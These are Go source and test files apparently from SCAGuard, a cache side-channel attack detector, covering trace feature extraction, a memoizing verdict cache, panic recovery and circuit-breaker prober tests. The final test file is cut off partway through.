const FeatureDim = len(nwEvents)*2 + 2

// Collect runs a program (with an optional victim) and returns its trace
// for feature extraction. The budget caps runaway programs.
func Collect(prog, victim *isa.Program, maxRetired uint64) (*exec.Trace, error) {
	cfg := exec.DefaultConfig()
	if maxRetired > 0 {
		cfg.MaxRetired = maxRetired
	}
	m, err := exec.NewMachine(cfg, prog, victim)
	if err != nil {
		return nil, err
	}
	return m.Run(), nil
}

// WindowFeatures summarizes a trace's windowed HPC samples into a fixed
// vector: per sampled NIGHTs-WATCH counter the mean and max of the
// per-window counts, then the number of windows and the total cycle
// count (both log-scaled to keep magnitudes comparable).
func WindowFeatures(tr *exec.Trace) []float64 {
	out := make([]float64, 0, FeatureDim)
	n := len(tr.Windows)
	for _, e := range nwEvents {
		var sum, maxV float64
		for _, w := range tr.Windows {
			v := float64(w.Counts[e])
			sum += v
			if v > maxV {
				maxV = v
			}
		}
		mean := 0.0
		if n > 0 {
			mean = sum / float64(n)
		}
		out = append(out, mean, maxV)
	}
	out = append(out, math.Log1p(float64(n)), math.Log1p(float64(tr.Cycles)))
	return out
}

// LoopFeatureDim is the KNN-MLFM feature length: the HPC event vectors
// of the topLoops hottest instructions (by execution count), each with
// its log execution count.
const (
	topLoops       = 4
	LoopFeatureDim = topLoops * (hpc.NumCounted + 1)
)

// LoopFeatures extracts the "malicious loop finding" features: the
// per-event counts and execution counts of the hottest instruction
// addresses, which approximate the program's dominant loops.
func LoopFeatures(tr *exec.Trace) []float64 {
	type hot struct {
		addr uint64
		exec uint64
	}
	var hots []hot
	for addr, rec := range tr.ByAddr {
		hots = append(hots, hot{addr, rec.ExecCount})
	}
	sort.Slice(hots, func(i, j int) bool {
		if hots[i].exec != hots[j].exec {
			return hots[i].exec > hots[j].exec
		}
		return hots[i].addr < hots[j].addr
	})
	out := make([]float64, 0, LoopFeatureDim)
	for i := 0; i < topLoops; i++ {
		if i < len(hots) {
			c := tr.Bank.At(hots[i].addr)
			for e := hpc.Event(0); e < hpc.NumEvents; e++ {
				if e.Counted() {
					out = append(out, float64(c[e]))
				}
			}
			out = append(out, math.Log1p(float64(hots[i].exec)))
		} else {
			for j := 0; j < hpc.NumCounted+1; j++ {
				out = append(out, 0)
			}
		}
	}
	return out
}

// Standardizer z-scores feature vectors using statistics of the training
// set; a zero-variance feature passes through unchanged.
type Standardizer struct {
	Mean []float64
	Std  []float64
}

// FitStandardizer computes per-dimension statistics.
func FitStandardizer(xs [][]float64) *Standardizer {
	if len(xs) == 0 {
		return &Standardizer{}
	}
	dim := len(xs[0])
	s := &Standardizer{Mean: make([]float64, dim), Std: make([]float64, dim)}
	for _, x := range xs {
		for i, v := range x {
			s.Mean[i] += v
		}
	}
	for i := range s.Mean {
		s.Mean[i] /= float64(len(xs))
	}
	for _, x := range xs {
		for i, v := range x {
			d := v - s.Mean[i]
			s.Std[i] += d * d
		}
	}
	for i := range s.Std {
		s.Std[i] = math.Sqrt(s.Std[i] / float64(len(xs)))
		if s.Std[i] == 0 {
			s.Std[i] = 1
		}
	}
	return s
}

// Apply standardizes one vector (a copy is returned).
func (s *Standardizer) Apply(x []float64) []float64 {
	if len(s.Mean) == 0 {
		return append([]float64(nil), x...)
	}
	out := make([]float64, len(x))
	for i, v := range x {
		out[i] = (v - s.Mean[i]) / s.Std[i]
	}
	return out
}
