package vcache

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"repro/internal/cache"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

func key(target string) Key {
	return Key{Target: target, Version: 1, Window: 3, ISW: 0.5, CSP: 0.5}
}

func fixed(res Result) Compute {
	return func() (Result, bool, error) { return res, true, nil }
}

// TestNilCacheIsOff: every method on a nil *Cache degrades to
// pass-through computation, the same nil-is-off contract as
// telemetry.Collector.
func TestNilCacheIsOff(t *testing.T) {
	var c *Cache
	if c2 := New(0, nil); c2 != nil {
		t.Fatal("New(0) returned a live cache")
	}
	calls := 0
	for i := 0; i < 2; i++ {
		res, hit, err := c.Do(context.Background(), key("t"), func() (Result, bool, error) {
			calls++
			return Result{Best: 7}, true, nil
		})
		if err != nil || hit || res.Best != 7 {
			t.Fatalf("nil Do = %+v hit=%v err=%v", res, hit, err)
		}
	}
	if calls != 2 {
		t.Fatalf("nil cache memoized: %d compute calls, want 2", calls)
	}
	if c.Len() != 0 || c.Cap() != 0 || c.TelemetryGauges() != nil {
		t.Fatal("nil cache accessors not zero")
	}
}

// TestHitMissAndTelemetry: second lookup of a key is a hit; counters
// and gauges track it.
func TestHitMissAndTelemetry(t *testing.T) {
	tel := telemetry.NewCollector()
	c := New(4, tel)
	tel.RegisterGauges("vcache", c.TelemetryGauges)

	want := Result{Matches: []scan.Match{{Index: 0, Score: 0.5}}, Best: 1}
	res, hit, err := c.Do(context.Background(), key("a"), fixed(want))
	if err != nil || hit {
		t.Fatalf("first Do hit=%v err=%v", hit, err)
	}
	res, hit, err = c.Do(context.Background(), key("a"), func() (Result, bool, error) {
		t.Fatal("compute ran on a cached key")
		return Result{}, false, nil
	})
	if err != nil || !hit || len(res.Matches) != 1 || res.Matches[0] != want.Matches[0] || res.Best != 1 {
		t.Fatalf("cached Do = %+v hit=%v err=%v", res, hit, err)
	}
	if h, m := tel.Counter(telemetry.VCacheHits), tel.Counter(telemetry.VCacheMisses); h != 1 || m != 1 {
		t.Fatalf("hits=%d misses=%d, want 1/1", h, m)
	}
	g := c.TelemetryGauges()
	if g["entries"] != 1 || g["capacity"] != 4 {
		t.Fatalf("gauges = %v", g)
	}
}

// TestReturnedSlicesAreIndependent: a caller mutating its returned
// match slice must not corrupt the cached entry or other callers.
func TestReturnedSlicesAreIndependent(t *testing.T) {
	c := New(2, nil)
	stored := Result{Matches: []scan.Match{{Index: 3, Score: 0.25}}}
	if _, _, err := c.Do(context.Background(), key("a"), fixed(stored)); err != nil {
		t.Fatal(err)
	}
	res1, _, _ := c.Do(context.Background(), key("a"), fixed(Result{}))
	res1.Matches[0].Score = -99
	res2, _, _ := c.Do(context.Background(), key("a"), fixed(Result{}))
	if res2.Matches[0].Score != 0.25 {
		t.Fatalf("cached entry corrupted through a returned slice: %+v", res2.Matches[0])
	}
}

// TestLRUEviction: past capacity the least recently used entry goes,
// recently touched entries stay.
func TestLRUEviction(t *testing.T) {
	tel := telemetry.NewCollector()
	c := New(2, tel)
	ctx := context.Background()
	for _, k := range []string{"a", "b"} {
		c.Do(ctx, key(k), fixed(Result{}))
	}
	// Touch "a" so "b" is the LRU victim.
	c.Do(ctx, key("a"), fixed(Result{}))
	c.Do(ctx, key("c"), fixed(Result{}))
	if c.Len() != 2 {
		t.Fatalf("Len = %d, want 2", c.Len())
	}
	if n := tel.Counter(telemetry.VCacheEvictions); n != 1 {
		t.Fatalf("evictions = %d, want 1", n)
	}
	recomputed := false
	c.Do(ctx, key("b"), func() (Result, bool, error) {
		recomputed = true
		return Result{}, false, nil // probe only; don't disturb the LRU
	})
	if !recomputed {
		t.Fatal("evicted key still served from cache")
	}
	if _, hit, _ := c.Do(ctx, key("a"), fixed(Result{})); !hit {
		t.Fatal("recently used key was evicted instead of the LRU one")
	}
}

// TestErrorsAndUncacheableResultsNotStored: a failed compute and a
// compute reporting cacheable=false (a degraded partial result) must
// both leave the cache empty, and the error path still returns the
// compute's result verbatim so partial matches reach the caller.
func TestErrorsAndUncacheableResultsNotStored(t *testing.T) {
	c := New(4, nil)
	ctx := context.Background()
	boom := errors.New("shard down")
	partial := Result{Matches: []scan.Match{{Index: 1, Score: 0.5}}}

	res, hit, err := c.Do(ctx, key("err"), func() (Result, bool, error) {
		return partial, false, boom
	})
	if !errors.Is(err, boom) || hit {
		t.Fatalf("Do = hit=%v err=%v", hit, err)
	}
	if len(res.Matches) != 1 {
		t.Fatal("partial matches dropped on the error path")
	}
	res, hit, err = c.Do(ctx, key("partial"), func() (Result, bool, error) {
		return partial, false, nil // uncacheable but successful
	})
	if err != nil || hit || len(res.Matches) != 1 {
		t.Fatalf("uncacheable Do = %+v hit=%v err=%v", res, hit, err)
	}
	if c.Len() != 0 {
		t.Fatalf("Len = %d after error + uncacheable computes, want 0", c.Len())
	}
}

// TestSingleflightCollapse: N concurrent lookups of one missing key run
// exactly one compute; the waiters share its result and are counted as
// collapsed.
func TestSingleflightCollapse(t *testing.T) {
	const n = 8
	tel := telemetry.NewCollector()
	c := New(4, tel)
	var computes atomic.Int32
	arrived := make(chan struct{}, n)
	release := make(chan struct{})

	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			arrived <- struct{}{}
			res, _, err := c.Do(context.Background(), key("hot"), func() (Result, bool, error) {
				computes.Add(1)
				<-release // hold the flight open until everyone queued
				return Result{Best: 42}, true, nil
			})
			if err != nil || res.Best != 42 {
				t.Errorf("collapsed Do = %+v, %v", res, err)
			}
		}()
	}
	for i := 0; i < n; i++ {
		<-arrived
	}
	close(release)
	wg.Wait()
	if got := computes.Load(); got != 1 {
		t.Fatalf("%d computes for one key, want 1", got)
	}
	collapsed := tel.Counter(telemetry.VCacheCollapsed)
	hits := tel.Counter(telemetry.VCacheHits)
	if collapsed+hits != n-1 {
		t.Fatalf("collapsed=%d hits=%d, want them to cover the %d waiters", collapsed, hits, n-1)
	}
	if collapsed == 0 {
		t.Fatal("no lookup collapsed onto the in-flight compute")
	}
}

// TestFailedFlightDoesNotPoisonWaiters: when the leading compute fails,
// waiters do not inherit its error — they compute independently (the
// leader's context may have died for reasons that don't apply to them).
func TestFailedFlightDoesNotPoisonWaiters(t *testing.T) {
	c := New(4, nil)
	leaderIn := make(chan struct{})
	release := make(chan struct{})

	var leaderErr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_, _, leaderErr = c.Do(context.Background(), key("k"), func() (Result, bool, error) {
			close(leaderIn)
			<-release
			return Result{}, false, errors.New("leader's private failure")
		})
	}()
	<-leaderIn
	waiterDone := make(chan error, 1)
	go func() {
		res, _, err := c.Do(context.Background(), key("k"), func() (Result, bool, error) {
			return Result{Best: 9}, true, nil
		})
		if err == nil && res.Best != 9 {
			err = fmt.Errorf("waiter got %+v", res)
		}
		waiterDone <- err
	}()
	close(release)
	wg.Wait()
	if leaderErr == nil {
		t.Fatal("leader error lost")
	}
	if err := <-waiterDone; err != nil {
		t.Fatalf("waiter inherited the leader's failure: %v", err)
	}
}

// TestWaiterHonorsContext: a waiter whose context dies while an
// in-flight compute holds the key returns the context error instead of
// blocking.
func TestWaiterHonorsContext(t *testing.T) {
	c := New(4, nil)
	leaderIn := make(chan struct{})
	release := make(chan struct{})
	defer close(release)
	go c.Do(context.Background(), key("k"), func() (Result, bool, error) {
		close(leaderIn)
		<-release
		return Result{}, true, nil
	})
	<-leaderIn
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := c.Do(ctx, key("k"), fixed(Result{}))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestLookupFaultBypassesCache: an armed vcache.lookup failpoint makes
// Do compute uncached — the classification still succeeds, nothing is
// stored, and the bypass is visible as a miss.
func TestLookupFaultBypassesCache(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	tel := telemetry.NewCollector()
	c := New(4, tel)
	ctx := context.Background()
	c.Do(ctx, key("a"), fixed(Result{Best: 1}))

	faultinject.Enable(faultinject.VCacheLookup, faultinject.Error(errors.New("cache unavailable")))
	calls := 0
	res, hit, err := c.Do(ctx, key("a"), func() (Result, bool, error) {
		calls++
		return Result{Best: 2}, true, nil
	})
	if err != nil || hit || calls != 1 || res.Best != 2 {
		t.Fatalf("bypassed Do = %+v hit=%v err=%v calls=%d", res, hit, err, calls)
	}
	if c.Len() != 1 {
		t.Fatalf("bypassed compute was stored: Len = %d", c.Len())
	}
	faultinject.Reset()
	// With the fault gone the original cached entry is intact.
	res, hit, _ = c.Do(ctx, key("a"), fixed(Result{}))
	if !hit || res.Best != 1 {
		t.Fatalf("post-fault lookup = %+v hit=%v", res, hit)
	}
}

// bbsFixture builds a tiny deterministic CST-BBS.
func bbsFixture(name string, delta float64) *model.CSTBBS {
	return &model.CSTBBS{
		Name:       name,
		TimerReads: 2,
		Seq: []model.CST{{
			Leader:     0x40,
			Before:     cache.State{AO: 0, IO: 1},
			After:      cache.State{AO: delta, IO: 1 - delta},
			NormInsns:  []string{"clflush mem", "rdtscp reg"},
			FirstCycle: 7,
			HPCValue:   3,
		}},
	}
}

// TestTargetHashProperties: the hash covers every scan-relevant field,
// ignores Name, and never collides trivially.
func TestTargetHashProperties(t *testing.T) {
	base := bbsFixture("a", 0.5)
	if TargetHash(base) != TargetHash(bbsFixture("renamed", 0.5)) {
		t.Fatal("Name participates in TargetHash; renamed identical binaries should share an entry")
	}
	variants := map[string]*model.CSTBBS{
		"delta":  bbsFixture("a", 0.25),
		"timer":  func() *model.CSTBBS { b := bbsFixture("a", 0.5); b.TimerReads = 9; return b }(),
		"leader": func() *model.CSTBBS { b := bbsFixture("a", 0.5); b.Seq[0].Leader = 0x80; return b }(),
		"cycle":  func() *model.CSTBBS { b := bbsFixture("a", 0.5); b.Seq[0].FirstCycle = 8; return b }(),
		"hpc":    func() *model.CSTBBS { b := bbsFixture("a", 0.5); b.Seq[0].HPCValue = 4; return b }(),
		"insns":  func() *model.CSTBBS { b := bbsFixture("a", 0.5); b.Seq[0].NormInsns = []string{"clflush mem"}; return b }(),
		"empty":  {Name: "a"},
	}
	ref := TargetHash(base)
	seen := map[string]string{"base": ref}
	for tag, b := range variants {
		h := TargetHash(b)
		if h == ref {
			t.Errorf("%s: hash ignores the changed field", tag)
		}
		if prev, dup := seen[h]; dup {
			t.Errorf("%s collides with %s", tag, prev)
		}
		seen[h] = tag
	}
	// Length-prefixing means a boundary shift between instruction strings
	// cannot alias: ["ab","c"] != ["a","bc"].
	x := bbsFixture("a", 0.5)
	x.Seq[0].NormInsns = []string{"ab", "c"}
	y := bbsFixture("a", 0.5)
	y.Seq[0].NormInsns = []string{"a", "bc"}
	if TargetHash(x) == TargetHash(y) {
		t.Fatal("instruction strings not length-prefixed; boundary shifts alias")
	}
}

// TestSliceHashOrderAndContent: the slice fingerprint is sensitive to
// both membership and order — a reordered slice is a different cache
// universe, because match indices are positional.
func TestSliceHashOrderAndContent(t *testing.T) {
	a, b := bbsFixture("a", 0.25), bbsFixture("b", 0.75)
	if SliceHash([]*model.CSTBBS{a, b}) == SliceHash([]*model.CSTBBS{b, a}) {
		t.Fatal("SliceHash ignores order")
	}
	if SliceHash([]*model.CSTBBS{a}) == SliceHash([]*model.CSTBBS{a, b}) {
		t.Fatal("SliceHash ignores membership")
	}
	if SliceHash([]*model.CSTBBS{a, b}) != SliceHash([]*model.CSTBBS{bbsFixture("renamed", 0.25), b}) {
		t.Fatal("SliceHash should ignore model names, matching TargetHash")
	}
}

// TestKeySemanticsSeparateEntries: different versions and scan
// semantics never share an entry.
func TestKeySemanticsSeparateEntries(t *testing.T) {
	c := New(16, nil)
	ctx := context.Background()
	base := key("t")
	mutants := []Key{base}
	v2 := base
	v2.Version = 2
	pr := base
	pr.Prune = true
	w := base
	w.Window = 9
	isw := base
	isw.ISW = 0.9
	sl := base
	sl.Slice = "deadbeef"
	mutants = append(mutants, v2, pr, w, isw, sl)
	for i, k := range mutants {
		res, hit, _ := c.Do(ctx, k, fixed(Result{Best: float64(i)}))
		if hit {
			t.Fatalf("key %d aliased an earlier entry", i)
		}
		if res.Best != float64(i) {
			t.Fatalf("key %d got result %v", i, res.Best)
		}
	}
	if c.Len() != len(mutants) {
		t.Fatalf("Len = %d, want %d distinct entries", c.Len(), len(mutants))
	}
}
