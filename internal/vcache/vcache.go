// Package vcache is the verdict result cache: a bounded LRU that
// memoizes whole repository-scan outcomes. SCAGuard's workload is
// inherently repetitive — the evaluation re-scores 1,000 mutated
// variants per family, a deployment sees the same binaries again and
// again — and a repeated target's scan is pure given the repository
// contents and the scan semantics, so the entire match list can be
// reused instead of recomputed.
//
// A cache entry is keyed by Key: the target's CST-BBS content hash,
// the repository version that produced the result, an optional
// served-slice fingerprint (shard servers, which scan a fixed slice
// rather than a versioned repository), and the scan semantics (prune,
// DTW window, term weights). Any repository mutation bumps the
// version, so stale results are unreachable by construction — no
// explicit invalidation path exists or is needed. See
// docs/ROBUSTNESS.md for the coherence argument, including why pruned
// results are safe to reuse.
//
// Concurrent identical lookups collapse onto one computation
// (singleflight): a thundering herd of the same binary costs one scan,
// and every waiter gets its own copy of the result. Errors are never
// cached, and the compute callback decides per-result whether the
// outcome is cacheable at all — partial results from degraded sharded
// scans are returned to their caller but never stored.
//
// A nil *Cache is the disabled state: Do runs the computation
// directly, so call sites need no branching (the same nil-is-off
// convention as telemetry.Collector).
package vcache

import (
	"container/list"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"math"
	"sync"

	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// Key identifies one memoized scan outcome. All fields participate in
// equality, so two lookups share an entry only when the target content,
// the repository state and the scan semantics all agree.
type Key struct {
	// Target is the CST-BBS content hash (TargetHash) of the scanned
	// model. The model's Name is deliberately excluded: scans never read
	// it, so renamed-but-identical binaries share an entry.
	Target string
	// Version is the repository version the result was computed against
	// (Repository.Add bumps it, invalidating every older entry). Shard
	// servers, whose slice is immutable, leave it zero and key on Slice
	// instead.
	Version uint64
	// Slice fingerprints the served repository slice (SliceHash) for
	// shard-side caching; empty for whole-repository scans.
	Slice string
	// Prune, Cascade, Window, ISW and CSP are the scan semantics: early
	// abandoning, the lower-bound cascade, plus the similarity options
	// that shape every score. Cascade changes which entries a pruned
	// scan skips, so results from the two orderings must never alias.
	Prune    bool
	Cascade  bool
	Window   int
	ISW, CSP float64
	// Index, IndexClusters and IndexMax extend the scan semantics with
	// the repository-index mode (scan.Config.Index and friends): the
	// indexed descent changes which entries a pruned scan skips — and
	// the approximate MaxClusters mode changes which scores are even
	// exact — so indexed and flat results must never alias.
	Index         bool
	IndexClusters int
	IndexMax      int
}

// Result is one memoized scan outcome.
type Result struct {
	// Matches is the positional match list the scan produced. Pruned
	// entries stay pruned: a cached pruned result is one valid outcome
	// of a pruned scan, and exact-mode results are bit-identical by
	// construction.
	Matches []scan.Match
	// Best is the final best exact distance of the scan's cutoff cell
	// (+Inf when pruning was off or nothing scored). Shard servers
	// return it to clients so a cached reply still tightens the
	// caller's cross-shard cutoff.
	Best float64
}

// clone returns a copy whose match slice is independent of r's.
func (r Result) clone() Result {
	return Result{Matches: scan.CloneMatches(r.Matches), Best: r.Best}
}

// Compute produces the outcome for a missing key. cacheable reports
// whether the result may be stored — return false for outcomes that
// must not be reused (partial results of a degraded sharded scan).
// Errors are never cached regardless of cacheable.
type Compute func() (res Result, cacheable bool, err error)

// flight is one in-progress computation other lookups can wait on.
type flight struct {
	done chan struct{}
	res  Result
	err  error
}

// entry is one LRU slot.
type entry struct {
	key Key
	res Result
}

// Cache is the bounded LRU + singleflight store. All methods are safe
// for concurrent use; all methods on a nil *Cache degrade to
// pass-through computation.
type Cache struct {
	cap int
	tel *telemetry.Collector

	mu      sync.Mutex
	lru     *list.List // front = most recently used; values are *entry
	items   map[Key]*list.Element
	flights map[Key]*flight
}

// New returns a cache bounded to capacity entries, instrumented through
// tel (nil disables instrumentation). A capacity <= 0 returns nil — the
// disabled cache.
func New(capacity int, tel *telemetry.Collector) *Cache {
	if capacity <= 0 {
		return nil
	}
	return &Cache{
		cap:     capacity,
		tel:     tel,
		lru:     list.New(),
		items:   make(map[Key]*list.Element),
		flights: make(map[Key]*flight),
	}
}

// Do returns the memoized result for key, computing it with compute on
// a miss. Concurrent calls for the same key collapse: one runs compute,
// the rest wait and share its result. hit reports whether the result
// was served from memory (a cache hit or a collapsed wait) rather than
// computed by this call. Every return hands the caller its own copy of
// the match slice.
//
// The vcache.lookup failpoint fires before the lookup; an injected
// error bypasses the cache for this call (counted as a miss) — the scan
// still runs and the classification still succeeds.
func (c *Cache) Do(ctx context.Context, key Key, compute Compute) (Result, bool, error) {
	if c == nil {
		res, _, err := compute()
		return res, false, err
	}
	if ferr := faultinject.Fire(faultinject.VCacheLookup, key.Target); ferr != nil {
		c.tel.Inc(telemetry.VCacheMisses)
		res, _, err := compute()
		return res, false, err
	}
	for {
		c.mu.Lock()
		if el, ok := c.items[key]; ok {
			c.lru.MoveToFront(el)
			res := el.Value.(*entry).res.clone()
			c.mu.Unlock()
			c.tel.Inc(telemetry.VCacheHits)
			return res, true, nil
		}
		if f, ok := c.flights[key]; ok {
			c.mu.Unlock()
			select {
			case <-ctx.Done():
				return Result{}, false, ctx.Err()
			case <-f.done:
			}
			if f.err == nil {
				c.tel.Inc(telemetry.VCacheCollapsed)
				return f.res.clone(), true, nil
			}
			// The leader failed (its context died, a shard fault...);
			// its error may not apply to this caller, so loop and
			// compute independently instead of inheriting it.
			continue
		}
		f := &flight{done: make(chan struct{})}
		c.flights[key] = f
		c.mu.Unlock()

		c.tel.Inc(telemetry.VCacheMisses)
		res, cacheable, err := compute()
		f.res, f.err = res, err
		c.mu.Lock()
		delete(c.flights, key)
		if err == nil && cacheable {
			c.storeLocked(key, res.clone())
		}
		c.mu.Unlock()
		close(f.done)
		return res, false, err
	}
}

// storeLocked inserts (or refreshes) an entry and evicts from the LRU
// tail past capacity. Caller holds c.mu.
func (c *Cache) storeLocked(key Key, res Result) {
	if el, ok := c.items[key]; ok {
		el.Value.(*entry).res = res
		c.lru.MoveToFront(el)
		return
	}
	c.items[key] = c.lru.PushFront(&entry{key: key, res: res})
	for len(c.items) > c.cap {
		back := c.lru.Back()
		c.lru.Remove(back)
		delete(c.items, back.Value.(*entry).key)
		c.tel.Inc(telemetry.VCacheEvictions)
	}
}

// Len returns the number of cached results.
func (c *Cache) Len() int {
	if c == nil {
		return 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.items)
}

// Cap returns the capacity bound (0 when disabled).
func (c *Cache) Cap() int {
	if c == nil {
		return 0
	}
	return c.cap
}

// TelemetryGauges adapts the cache's size to a telemetry gauge source;
// register it under a "vcache" name so snapshots carry the live entry
// count next to the hit/miss/eviction counters.
func (c *Cache) TelemetryGauges() map[string]uint64 {
	if c == nil {
		return nil
	}
	return map[string]uint64{
		"entries":  uint64(c.Len()),
		"capacity": uint64(c.cap),
	}
}

// TargetHash fingerprints the scan-relevant content of a CST-BBS: the
// timer-read count and, per CST, the block leader, the before/after
// cache states, the normalized instruction sequence, the first-execution
// cycle and the HPC value. The Name is excluded — no scan reads it. Two
// models hash equal iff every field a comparison can observe is equal,
// so a hash hit reuses a result the scan would have reproduced.
func TargetHash(bbs *model.CSTBBS) string {
	h := sha256.New()
	var buf [8]byte
	u64 := func(v uint64) {
		binary.LittleEndian.PutUint64(buf[:], v)
		h.Write(buf[:])
	}
	f64 := func(v float64) { u64(math.Float64bits(v)) }
	str := func(s string) {
		u64(uint64(len(s)))
		h.Write([]byte(s))
	}
	u64(bbs.TimerReads)
	u64(uint64(len(bbs.Seq)))
	for _, c := range bbs.Seq {
		u64(c.Leader)
		f64(c.Before.AO)
		f64(c.Before.IO)
		f64(c.After.AO)
		f64(c.After.IO)
		u64(c.FirstCycle)
		u64(c.HPCValue)
		u64(uint64(len(c.NormInsns)))
		for _, insn := range c.NormInsns {
			str(insn)
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}

// SliceHash fingerprints an ordered repository slice as the hash of its
// models' content hashes. Shard servers key their cache on it so a
// cached reply can only ever be served for the exact slice (content and
// order) that produced it.
func SliceHash(models []*model.CSTBBS) string {
	h := sha256.New()
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], uint64(len(models)))
	h.Write(buf[:])
	for _, m := range models {
		h.Write([]byte(TargetHash(m)))
	}
	return hex.EncodeToString(h.Sum(nil))
}
