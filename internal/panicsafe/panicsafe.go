// Package panicsafe converts panics into errors at goroutine
// boundaries. The streaming/batch classification pipeline runs
// worker-pool goroutines over many independent targets; a panic in one
// of them must become an error result for that target instead of
// killing the process mid-attack (docs/ROBUSTNESS.md). Every worker
// body in the pipeline — scan workers, batch workers, stream stages —
// runs under Do, and the recovered value travels as a *PanicError so
// callers can distinguish "this target crashed the stage" from an
// ordinary failure and re-panic where loudness is the contract.
package panicsafe

import (
	"errors"
	"fmt"
	"runtime/debug"
)

// PanicError is a recovered panic carried through an error path.
type PanicError struct {
	// Value is the value the goroutine panicked with.
	Value any
	// Stack is the panicking goroutine's stack at recovery time.
	Stack []byte
}

// Error renders the panic value; the stack is kept out of the one-line
// form (retrieve it from the field for logs).
func (e *PanicError) Error() string {
	return fmt.Sprintf("panic: %v", e.Value)
}

// Do runs fn, converting a panic into a *PanicError. An error returned
// by fn passes through unchanged.
func Do(fn func() error) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = &PanicError{Value: r, Stack: debug.Stack()}
		}
	}()
	return fn()
}

// DoNotify is Do with a recovery hook: notify runs only when fn
// panicked (not for ordinary errors, and not for a *PanicError fn
// merely returned from a recovery further down). Call sites use it to
// count recoveries exactly once, at the boundary that caught them.
func DoNotify(fn func() error, notify func(*PanicError)) (err error) {
	defer func() {
		if r := recover(); r != nil {
			pe := &PanicError{Value: r, Stack: debug.Stack()}
			if notify != nil {
				notify(pe)
			}
			err = pe
		}
	}()
	return fn()
}

// AsPanic unwraps err to a *PanicError if one is in its chain.
func AsPanic(err error) (*PanicError, bool) {
	var pe *PanicError
	if errors.As(err, &pe) {
		return pe, true
	}
	return nil, false
}

// Repanic re-raises err's panic value when err carries one, restoring
// the pre-recovery behavior for call paths whose contract is to crash
// loudly (the non-context APIs). A nil or ordinary error is returned
// unchanged.
func Repanic(err error) error {
	if pe, ok := AsPanic(err); ok {
		panic(pe.Value)
	}
	return err
}
