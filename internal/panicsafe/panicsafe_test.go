package panicsafe

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

func TestDoPassesThroughNilAndErrors(t *testing.T) {
	if err := Do(func() error { return nil }); err != nil {
		t.Fatalf("nil fn: got %v", err)
	}
	want := errors.New("boom")
	if err := Do(func() error { return want }); !errors.Is(err, want) {
		t.Fatalf("error fn: got %v, want %v", err, want)
	}
}

func TestDoRecoversPanic(t *testing.T) {
	err := Do(func() error { panic("kaboom") })
	pe, ok := AsPanic(err)
	if !ok {
		t.Fatalf("got %v (%T), want *PanicError", err, err)
	}
	if pe.Value != "kaboom" {
		t.Fatalf("panic value = %v, want kaboom", pe.Value)
	}
	if len(pe.Stack) == 0 || !strings.Contains(string(pe.Stack), "panicsafe") {
		t.Fatalf("stack not captured: %q", pe.Stack)
	}
	if got := pe.Error(); !strings.Contains(got, "kaboom") {
		t.Fatalf("Error() = %q", got)
	}
}

func TestAsPanicUnwrapsWrappedChains(t *testing.T) {
	inner := Do(func() error { panic(42) })
	wrapped := fmt.Errorf("stage scan: %w", inner)
	pe, ok := AsPanic(wrapped)
	if !ok || pe.Value != 42 {
		t.Fatalf("AsPanic(%v) = %v, %v", wrapped, pe, ok)
	}
	if _, ok := AsPanic(errors.New("plain")); ok {
		t.Fatal("plain error reported as panic")
	}
	if _, ok := AsPanic(nil); ok {
		t.Fatal("nil error reported as panic")
	}
}

func TestRepanic(t *testing.T) {
	plain := errors.New("plain")
	if got := Repanic(plain); got != plain {
		t.Fatalf("Repanic(plain) = %v", got)
	}
	if got := Repanic(nil); got != nil {
		t.Fatalf("Repanic(nil) = %v", got)
	}
	defer func() {
		if r := recover(); r != "again" {
			t.Fatalf("recovered %v, want again", r)
		}
	}()
	Repanic(Do(func() error { panic("again") }))
	t.Fatal("Repanic did not panic")
}
