package breaker

import (
	"context"
	"errors"
	"runtime"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/faultinject"
	"repro/internal/telemetry"
)

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, d time.Duration, cond func() bool, msg string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatal(msg)
}

func TestProberReadmitsRecoveredBackend(t *testing.T) {
	tel := telemetry.NewCollector()
	b := New("backend", Settings{Threshold: 1, OpenInterval: time.Millisecond}, tel)
	var healthy atomic.Bool
	p := NewProber(10*time.Millisecond, []Probe{{
		Name:    "backend",
		Breaker: b,
		Check: func(ctx context.Context) error {
			if healthy.Load() {
				return nil
			}
			return errors.New("still down")
		},
	}})
	b.Report(errors.New("dead"))
	if b.State() != Open {
		t.Fatal("breaker should be open")
	}
	p.Start()
	defer p.Stop()

	// While unhealthy, probes fail and the breaker stays quarantined.
	time.Sleep(30 * time.Millisecond)
	if b.State() == Closed {
		t.Fatal("prober closed the breaker on a failing backend")
	}

	// Recovery: the next due probe must re-close the breaker.
	healthy.Store(true)
	waitFor(t, 2*time.Second, func() bool { return b.State() == Closed },
		"prober never re-admitted the recovered backend")
	if tel.Counter(telemetry.BreakerCloses) == 0 {
		t.Fatal("breaker_closes not counted")
	}
}

func TestProberLeavesClosedBackendsAlone(t *testing.T) {
	b := New("backend", Settings{}, nil)
	var checks atomic.Int64
	p := NewProber(10*time.Millisecond, []Probe{{
		Name:    "backend",
		Breaker: b,
		Check:   func(ctx context.Context) error { checks.Add(1); return nil },
	}})
	p.Start()
	time.Sleep(50 * time.Millisecond)
	p.Stop()
	if n := checks.Load(); n != 0 {
		t.Fatalf("prober probed a closed backend %d times", n)
	}
}

func TestProberProbeFailpoint(t *testing.T) {
	defer faultinject.Reset()
	b := New("backend", Settings{Threshold: 1, OpenInterval: time.Millisecond}, nil)
	var checks atomic.Int64
